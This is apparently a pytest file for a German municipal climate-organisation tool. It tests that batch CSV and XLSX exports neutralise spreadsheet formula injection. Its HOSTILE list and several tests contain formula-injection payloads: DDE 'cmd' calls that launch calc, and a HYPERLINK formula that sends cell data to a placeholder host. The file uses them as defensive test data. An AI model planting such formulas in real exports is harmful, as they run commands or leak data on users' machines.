"""Batch results never carry a formula (CSV or formula injection, OWASP): text that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets an apostrophe in front, in CSV and
XLSX alike; XLSX writes every text as a string cell; numbers stay numbers, negative ones too; a
carriage return in a name cannot end a CSV row and start a new one.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from klimaorg.batch import COLUMNS, Row
from klimaorg.batch.assess import Outcome, RowError
from klimaorg.batch.output import FORMULA_STARTS, neutral, open_writer
from klimaorg.batch.summary import SummaryTable
from klimaorg.cli.main import app

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://127.0.0.1:9/leak?"&A1,"Klick")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n",
    "#N/A",
]
DANGEROUS = re.compile(r"^[=+\-@\t\r]")


@pytest.fixture
def no_directory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """Commands see an empty data folder (the rows give kind and population)."""
    monkeypatch.setenv("KLIMAORG_DATA_DIR", str(tmp_path / "data"))
    yield tmp_path


def test_neutral_follows_the_owasp_rule() -> None:
    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")
    for text in HOSTILE[:7]:
        assert neutral(text) == "'" + text
    for text in ("Musterstadt", "Bad Kreuznach", "'=already", " =1", "1-2", "#N/A", ""):
        assert neutral(text) == text


def _row(line: int, name: str, *, population: Any = 48000, error: str | None = None) -> Row:
    outcome = Outcome(
        recommendation="team",
        recommendation_name="=Klimaschutzteam",
        score=-0.25,
        first_rank_share=0.5,
        runner_up="stabsstelle",
        runner_up_name="-Stabsstelle",
        runner_up_share=0.25,
        ranking=(
            {"model": "team", "rank": 1, "excluded": False, "rules": []},
            {"model": "@x", "rank": None, "excluded": True, "rules": ["=rule"]},
        ),
    )
    return Row(
        line=line,
        ags="+08316000",
        name=name,
        kind="=stadt",
        population=population,
        size_class="-5.000",
        outcome=None if error else outcome,
        assumptions=-3,
        error=RowError(line, "@field", error) if error else None,
    )


def _rows() -> list[Row]:
    rows = [_row(2 + i, name) for i, name in enumerate(HOSTILE)]
    rows.append(_row(20, "=error", population="=1+1", error='=HYPERLINK("x")'))
    rows.append(_row(21, "Negativ", population=-5))
    return rows


SUMMARY = SummaryTable(
    header=["=size", "@team", "+total"],
    model_ids=["team"],
    model_names=["@team"],
    rows=[("-unter 1.000", [1, -2])],
    total=[1, -2],
)


def _write(path: Path) -> Path:
    writer = open_writer(path, "de")
    for row in _rows():
        writer.write(row)
    writer.finish(SUMMARY)
    writer.commit()
    return path


def test_csv_cells_are_neutralised_and_numbers_stay_numbers(tmp_path: Path) -> None:
    with _write(tmp_path / "r.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(HOSTILE) + 2
    for row, name in zip(rows, HOSTILE, strict=False):
        expected = "'" + name if DANGEROUS.match(name) else name
        assert row["name"] == expected.replace("\r", "\n")  # a lone CR would end the row
        assert row["recommendation_name"] == "'=Klimaschutzteam"
        assert row["ags"] == "'+08316000" and row["kind"] == "'=stadt"
        assert row["size_class"] == "'-5.000" and row["runner_up_name"] == "'-Stabsstelle"
        assert row["score"] == "-0.25" and row["assumptions"] == "-3"  # numbers, as numbers
        assert row["population"] == "48000"
    failed, negative = rows[-2], rows[-1]
    assert failed["population"] == "'=1+1" and failed["error"] == '\'@field: =HYPERLINK("x")'
    assert negative["population"] == "-5"
    for row in rows:
        for column, value in row.items():
            if column not in ("score", "assumptions", "population") or not _number(value):
                assert not DANGEROUS.match(value), (column, value)


def test_a_carriage_return_cannot_start_a_csv_row(tmp_path: Path) -> None:
    writer = open_writer(tmp_path / "r.csv", "de")
    writer.write(_row(2, "Musterstadt\r=cmd|' /C calc'!A0,x\r\n@SUM(1)"))
    writer.finish(SUMMARY)
    writer.commit()
    with (tmp_path / "r.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) == 2  # header and the one row
    assert rows[1][COLUMNS.index("name")] == "Musterstadt\n=cmd|' /C calc'!A0,x\n@SUM(1)"


def _number(value: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?", value) is not None


def test_xlsx_has_string_cells_and_no_formula(tmp_path: Path) -> None:
    path = _write(tmp_path / "r.xlsx")
    with zipfile.ZipFile(path) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
        assert len(sheets) == 3
        for sheet in sheets:
            assert not re.search(rb"<(\w+:)?f[ >]", package.read(sheet)), sheet
    book = load_workbook(path)
    results, summary, errors = (book[name] for name in ("Ergebnisse", "Zusammenfassung", "Fehler"))
    header = [cell.value for cell in results[1]]
    assert header == list(COLUMNS)
    for sheet in (results, summary, errors):
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", cell.coordinate
                    assert not DANGEROUS.match(cell.value), (sheet.title, cell.coordinate)
    column = {name: index for index, name in enumerate(COLUMNS)}
    lines = list(results.iter_rows(min_row=2))
    for line, name in zip(lines, HOSTILE, strict=False):
        cell = line[column["name"]]
        expected = "'" + name if DANGEROUS.match(name) else name
        assert (cell.value, cell.data_type) == (expected, "s")
        score = line[column["score"]]
        assert (score.value, score.data_type, score.number_format) == (-0.25, "n", "0.0000")
        assert line[column["assumptions"]].value == -3
    assert lines[-1][column["population"]].value == -5  # a negative number is a number cell
    assert lines[-1][column["population"]].data_type == "n"
    assert lines[-2][column["population"]].value == "'=1+1"
    error = next(errors.iter_rows(min_row=2, values_only=True))
    assert error == (20, "'+08316000", "'=error", "'@field", '\'=HYPERLINK("x")')
    assert [c.value for c in summary[1]] == ["'=size", "'@team", "'+total"]
    assert [c.value for c in summary[2]] == ["'-unter 1.000", 1, -2]
    assert summary["B2"].data_type == "n" and summary["C2"].value == -2


def test_hash_error_codes_stay_text(tmp_path: Path) -> None:
    book = load_workbook(_write(tmp_path / "r.xlsx"))
    cell = book["Ergebnisse"].cell(row=1 + HOSTILE.index("#N/A") + 1, column=3)
    assert (cell.value, cell.data_type) == ("#N/A", "s")


def _batch_input(path: Path) -> Path:
    names = [*HOSTILE[:5], "Musterstadt"]
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    writer.writerow(["municipality.name", "municipality.kind", "municipality.population"])
    for name in names:
        writer.writerow([name, "stadt", "48000"])
    writer.writerow(["=Fehler", "stadt", "=1+1"])
    writer.writerow(["@Fehler", "=kind", "9000"])
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_batch_command_writes_no_formula(no_directory: Path, suffix: str) -> None:
    source = _batch_input(no_directory / "kommunen.csv")
    out = no_directory / f"ergebnisse.{suffix}"
    result = CliRunner().invoke(app, ["batch", str(source), "-o", str(out)])
    assert result.exit_code == 1, result.output  # two rows have errors
    assert "6 bewertet" in result.output
    if suffix == "csv":
        with out.open(encoding="utf-8", newline="") as handle:
            table = list(csv.reader(handle))
    else:
        with zipfile.ZipFile(out) as package:
            for sheet in (n for n in package.namelist() if n.startswith("xl/worksheets/")):
                assert not re.search(rb"<(\w+:)?f[ >]", package.read(sheet)), sheet
        book = load_workbook(out)
        table = [
            ["" if v is None else str(v) for v in line]
            for sheet in book.worksheets
            for line in sheet.iter_rows(values_only=True)
        ]
    cells = [value for line in table for value in line]
    assert "'=cmd|' /C calc'!A0" in cells and "Musterstadt" in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells and "'=1+1" in cells
    assert not [value for value in cells if DANGEROUS.match(value) and not _number(value)]
